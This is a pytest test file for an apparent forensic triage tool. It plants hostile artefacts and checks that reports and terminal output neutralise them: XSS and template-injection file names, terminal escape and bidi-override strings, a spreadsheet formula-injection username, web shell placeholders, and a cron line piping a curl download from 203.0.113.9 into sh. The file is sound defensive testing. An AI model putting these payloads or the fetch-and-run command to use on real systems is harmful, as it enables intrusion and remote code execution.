"""Names, log lines and rows that a hostile host chose: nothing of them acts in the report or on the terminal."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from triage_kit import RAW, Report, artefacts, findings, results, sealbag, told
from triage_planted import DAY, FAILURES, WEB_SHELL, plant, utmp, write

HTML = "</script><img src=x onerror=alert(1)>"
NAMES = (
    "<img src=x onerror=alert(1)>.php", "\x1b[31mred\x1b]0;title\x07.php", "gnp\u202efile\u2066.php",
    "=HYPERLINK(1).php", "two\nlines\r.php", "{{7*7}}.php",
)  # fmt: skip
WORD = HTML.replace("/", "")


@pytest.fixture(scope="module")
def tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = plant(tmp_path_factory.mktemp("host") / "tree")
    for number, name in enumerate((*NAMES, os.fsdecode(b"not-\xff-utf8.php"))):
        if "/" not in name:
            write(root, f"var/www/html/{name}", WEB_SHELL + str(number).encode())
    users = ("\x1b[2J\x9b31m", f"<b>{WORD[:20]}", "=cmd|' /C calc'!A0", "\u202eevil")
    lines = "".join(
        f"Mar  1 11:00:{second:02} web1 sshd[7]: Failed password for invalid user {user} from 203.0.113.9 port 1 ssh2\n"
        for second, user in enumerate(users)
    )
    with (root / "var/log/auth.log").open("a", encoding="utf-8") as log:
        log.write(lines)
    bad = b"".join(utmp(6, 1, "ssh:\x1b[1m", "\x1b[31mmallory", "<script>x", DAY + 50000 + n) for n in range(3))
    write(root, "var/log/btmp", (root / "var/log/btmp").read_bytes() + bad)
    write(root, "etc/cron.d/evil", f"* * * * * root curl http://203.0.113.9/{WORD}\x1b[31m\u202e | sh\n")
    return root


def test_nothing_of_it_acts(tree: Path, tmp_path: Path) -> None:
    done = sealbag("triage", "--source", tree, "--out", tmp_path / "out")
    assert done.returncode == 0, done.stderr
    assert not RAW.search(done.stdout + done.stderr)
    shells = [row for row in findings(tmp_path / "out/work") if row["rule"] == "sealbag_webshell_php_request_runs"]
    # each is found, and is called by a name that is safe and leads back to it
    paths = {ref["path"] for row in shells for ref in row["refs"]}
    assert len(paths) == len([name for name in NAMES if "/" not in name]) + 2
    known = {f"/{path}" for path in artefacts(tmp_path / "out/bag")}
    assert paths <= known and not any(RAW.search(path) or "\n" in path for path in paths)
    report = Report(tmp_path / "out/report.html")
    assert not RAW.search(report.text)
    assert "<img" not in report.text and not re.search(r"<script(?! type=| class=|>)", report.text)
    assert report.text.count("<script>") == 1
    for column in ("path", "title", "matched"):
        assert not any(RAW.search(str(value)) for value in report.column("findings", column))
    for column in ("user", "message", "path", "src_ip"):
        assert not any(RAW.search(str(value)) for value in report.column("events", column))
    # a terminal name with controls is no record of utmp: stated as problems, not lost
    assert len(report.column("events", "event_id")) == 2 * FAILURES + 17
    utmp_lines = [line for line in results(tmp_path / "out/bag") if line["parser"] == "linux.utmp"]
    assert sum(line.get("n_problems", 0) for line in utmp_lines) == 3


def test_json_and_tables_of_it(tree: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    done = sealbag("triage", "--source", tree, "--out", out, "--json")
    told(done, "triage")
    assert done.stdout.isascii()
    for words in (("ls", out / "bag", "--all"), ("events", "list", out / "work"), ("show", out / "bag", "--seq", "10")):
        shown = sealbag(*words)
        assert not RAW.search(shown.stdout + shown.stderr), words
